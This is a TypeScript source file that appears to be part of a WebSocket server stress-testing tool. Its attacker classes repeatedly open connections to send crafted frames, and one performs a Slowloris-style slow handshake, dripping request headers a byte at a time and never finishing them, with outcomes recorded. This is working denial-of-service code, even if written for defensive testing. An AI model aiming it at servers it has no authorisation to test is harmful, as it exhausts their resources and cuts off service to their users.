import { connect, type Socket } from 'node:net';
import type { Dialer } from '../load/dialer.ts';
import { kindOf } from '../load/load-error.ts';
import type { ConnectionEnd } from '../load/load-events.ts';
import type { Attack } from './attacks.ts';
import type { Recorder } from './recorder.ts';
import { WatchedEvents } from './watched.ts';

/** One who attacks again and again until he is told to stop. */
export interface Attacker {
  /** An attack goes on right now. */
  readonly isUnderWay: boolean;
  start(): void;
  /** Ends the attack under way and counts how it ended. */
  stop(): Promise<void>;
}

/** After an attack that was beaten off, the next one comes so much later, in milliseconds. */
const PAUSE_MS = 100;
/** A head that never ends grows by a byte so often. */
const BYTE_MS = 50;
/** So long is waited for a server to say whether it still serves an attacker. */
const FATE_MS = 5_000;

/** Attacks over connections that stand: the next one when the server has ended the one before. */
export class WebSocketAttacker implements Attacker {
  readonly #attack: Attack;
  readonly #dialer: Dialer;
  readonly #recorder: Recorder;
  readonly #timeoutMs: number;
  #assault: Assault | undefined = undefined;
  #timer: NodeJS.Timeout | undefined = undefined;
  #isStopped = false;

  constructor(attack: Attack, dialer: Dialer, recorder: Recorder) {
    this.#attack = attack;
    this.#dialer = dialer;
    this.#recorder = recorder;
    this.#timeoutMs = dialer.plan.timeoutMs;
  }

  get isUnderWay(): boolean {
    return this.#assault !== undefined;
  }

  start(): void {
    this.#isStopped = false;
    void this.#begin();
  }

  async stop(): Promise<void> {
    this.#isStopped = true;
    clearTimeout(this.#timer);
    const assault = this.#assault;
    if (assault === undefined) return;
    this.#assault = undefined;
    assault.finish();
    const fate = await assault.fate(Math.min(this.#timeoutMs, FATE_MS));
    this.#recorder.outcome(fate);
    if (!assault.isOpen) this.#recorder.conclude('attackersClosed');
    assault.connection.terminate();
  }

  async #begin(): Promise<void> {
    const assault = new Assault(this.#attack, (end) => this.#ended(assault, end));
    try {
      await this.#dialer.open(assault);
    } catch (error) {
      const kind = kindOf(error);
      this.#recorder.outcome(kind === 'no deflate' ? 'no deflate agreed' : `not let in: ${kind}`);
      // Where compression is not agreed on there is nothing to attack.
      if (kind !== 'no deflate') this.#again();
      return;
    }
    if (this.#isStopped) {
      assault.connection.terminate();
      return;
    }
    this.#assault = assault;
    this.#recorder.count('attacks');
    assault.launch();
  }

  #ended(assault: Assault, { kind }: ConnectionEnd): void {
    if (this.#assault !== assault) return;
    this.#assault = undefined;
    this.#recorder.count('attackersClosed');
    this.#recorder.outcome(kind);
    this.#again();
  }

  #again(): void {
    if (!this.#isStopped) this.#timer = setTimeout(() => void this.#begin(), PAUSE_MS);
  }
}

/** One attack on one connection. */
class Assault extends WatchedEvents {
  readonly #attack: Attack;
  readonly #over: (end: ConnectionEnd) => void;
  #sent = 0;
  #goesOn = true;

  constructor(attack: Attack, over: (end: ConnectionEnd) => void) {
    super();
    this.#attack = attack;
    this.#over = over;
  }

  launch(): void {
    if (this.#attack.isDeaf) this.connection.pause();
    this.#send();
  }

  /** Sends no more than what is missing of the frame under way. */
  finish(): void {
    this.#goesOn = false;
    const rest = this.#attack.rest?.(this.#sent);
    if (rest !== undefined && rest.length > 0) this.connection.write(rest);
  }

  message(): void {}

  override drained(): void {
    this.#send();
  }

  protected override ended(end: ConnectionEnd): void {
    this.#goesOn = false;
    this.#over(end);
  }

  /** One write a turn, so that segments stay apart and others have theirs; none while the socket is full. */
  #send(): void {
    if (!this.#goesOn || !this.isOpen || this.#sent >= this.#attack.bytes) return;
    const bytes = this.#attack.next(this.#sent);
    this.#sent += bytes.length;
    this.connection.write(bytes);
    if (this.connection.queuedBytes === 0) setImmediate(() => this.#send());
  }
}

/** Sends the head of an opening handshake a byte at a time, and never its end. */
export class HandshakeAttacker implements Attacker {
  readonly #dialer: Dialer;
  readonly #recorder: Recorder;
  #socket: Socket | undefined = undefined;
  #timer: NodeJS.Timeout | undefined = undefined;
  #isStopped = false;

  constructor(dialer: Dialer, recorder: Recorder) {
    this.#dialer = dialer;
    this.#recorder = recorder;
  }

  get isUnderWay(): boolean {
    return this.#socket?.readyState === 'open';
  }

  start(): void {
    this.#isStopped = false;
    this.#begin();
  }

  async stop(): Promise<void> {
    this.#isStopped = true;
    clearInterval(this.#timer);
    const socket = this.#socket;
    if (socket === undefined) return;
    this.#socket = undefined;
    this.#recorder.outcome('still open');
    socket.destroy();
  }

  #begin(): void {
    const { hostname, port, host, target } = this.#dialer.target;
    const head = `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `;
    const socket = connect({ host: hostname, port, noDelay: true });
    let sent = 0;
    let answer = '';
    this.#socket = socket;
    socket.on('connect', () => {
      this.#recorder.count('attacks');
      this.#timer = setInterval(() => socket.write(head[sent++] ?? 'x'), BYTE_MS);
    });
    socket.on('data', (bytes) => {
      answer ||= bytes.toString('latin1');
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(this.#timer);
      if (this.#socket !== socket) return;
      this.#socket = undefined;
      this.#recorder.count('attackersClosed');
      this.#recorder.outcome(answer === '' ? 'cut off' : `status ${answer.split(' ')[1] ?? ''}`);
      if (!this.#isStopped) this.#timer = setTimeout(() => this.#begin(), PAUSE_MS);
    });
  }
}
